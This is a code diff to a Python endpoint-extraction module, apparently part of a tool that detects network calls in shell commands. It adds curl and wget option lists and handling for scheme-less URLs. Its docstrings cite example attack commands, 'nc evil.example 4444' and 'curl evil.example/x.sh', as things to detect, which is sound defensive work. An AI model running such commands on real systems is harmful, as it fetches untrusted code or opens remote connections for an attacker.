@@ -102,20 +102,69 @@ def from_word(word: str) -> list[Endpoint]:
     return found
 
 
-def from_args(args: list[str], network_program: bool = False) -> list[Endpoint]:
+CURL_VALUED = frozenset({
+    "-A", "-b", "-c", "-C", "-d", "-D", "-e", "-E", "-F", "-H", "-K", "-m", "-o", "-P", "-Q", "-r", "-T", "-u",
+    "-U", "-w", "-X", "-y", "-Y", "-z", "--user-agent", "--cookie", "--cookie-jar", "--continue-at", "--data",
+    "--data-ascii", "--data-binary", "--data-raw", "--data-urlencode", "--json", "--dump-header", "--referer",
+    "--cert", "--cert-type", "--key", "--key-type", "--pass", "--cacert", "--capath", "--form", "--form-string",
+    "--header", "--proxy-header", "--config", "--max-time", "--connect-timeout", "--output", "--output-dir",
+    "--ftp-port", "--quote", "--range", "--upload-file", "--user", "--proxy-user", "--write-out", "--request",
+    "--speed-limit", "--speed-time", "--time-cond", "--retry", "--retry-delay", "--retry-max-time", "--limit-rate",
+    "--max-filesize", "--max-redirs", "--interface", "--local-port", "--oauth2-bearer", "--aws-sigv4",
+    "--trace", "--trace-ascii", "--stderr", "--unix-socket", "--abstract-unix-socket", "--dns-servers",
+    "--variable", "--expand-url", "--url-query", "--ciphers", "--tls-max", "--netrc-file", "--login-options",
+    "--sasl-authzid", "--service-name", "--proto", "--proto-redir", "--mail-from", "--mail-rcpt", "--hostpubmd5",
+    "--hostpubsha256", "--pubkey", "--crlfile", "--pinnedpubkey", "--delegation", "--happy-eyeballs-timeout-ms",
+    "--keepalive-time", "--expect100-timeout", "--parallel-max", "--rate", "--etag-save", "--etag-compare"})
+"""curl's options whose next word is their value, not a URL (a URL-valued one, -x or --url, is read as such)."""
+WGET_VALUED = frozenset({
+    "-O", "-o", "-a", "-i", "-P", "-U", "-e", "-t", "-T", "-w", "-Q", "-l", "-A", "-R", "-D", "-B", "-I", "-X",
+    "--output-document", "--output-file", "--append-output", "--input-file", "--directory-prefix", "--user-agent",
+    "--execute", "--tries", "--timeout", "--wait", "--quota", "--level", "--accept", "--reject", "--domains",
+    "--base", "--include-directories", "--exclude-directories", "--header", "--post-data", "--post-file",
+    "--body-data", "--body-file", "--method", "--user", "--password", "--http-user", "--http-password",
+    "--load-cookies", "--save-cookies", "--referer", "--certificate", "--private-key", "--ca-certificate",
+    "--limit-rate", "--bind-address", "--dns-timeout", "--connect-timeout", "--read-timeout", "--waitretry",
+    "--config", "--rejected-log", "--default-page", "--restrict-file-names", "--local-encoding",
+    "--remote-encoding", "--ciphers", "--secure-protocol", "--accept-regex", "--reject-regex"})
+"""wget's options whose next word is their value."""
+
+
+def from_args(args: list[str], network_program: bool = False, valued: frozenset | None = None) -> list[Endpoint]:
     """Endpoints in a command's words.
 
     For a network program (ssh, nc, ...) bare host names count as hosts and bare numbers as ports,
-    as in `nc evil.example 4444`.
+    as in `nc evil.example 4444`. With `valued`, the options that take the next word (curl's, wget's):
+    a bare word is a host only where it is no option's value (`curl -o out.txt URL` writes a file), and
+    a host with a path and no scheme is one (`curl evil.example/x.sh`, which curl fetches over http).
     """
     found: list[Endpoint] = []
+    value_next = False
     for word in args:
+        is_value, value_next = value_next, False
+        if valued is not None and word[:1] == "-" and not is_value:
+            name = word.partition("=")[0]
+            value_next = "=" not in word and (name in valued or (
+                len(word) > 2 and word[1] != "-" and "-" + word[-1] in valued and word[1:].isalpha()))
         named = from_word(word)
-        if not named and network_program and not word.startswith("-"):
+        if not named and network_program and not word.startswith("-") and not is_value:
             port = _port(word)
             if port is not None:
                 named = [Endpoint(None, port)]
             elif _hostlike(word) and word.rsplit(".", 1)[-1].isalpha():
                 named = [Endpoint(word)]
+            elif valued is not None and "/" in word:
+                named = _schemeless(word)
         found.extend(named)
     return found
+
+
+def _schemeless(word: str) -> list[Endpoint]:
+    """`host[:port]/path` as curl and wget take it (http): a name with a top-level domain or an address."""
+    head = word.partition("/")[0]
+    host, _, port = head.partition(":")
+    if port and _port(port) is None:
+        return []
+    if is_ip(host) or host == "localhost" or _hostlike(host) and host.rsplit(".", 1)[-1].isalpha() and "." in host:
+        return [Endpoint(host, _port(port) if port else None, "http")]
+    return []
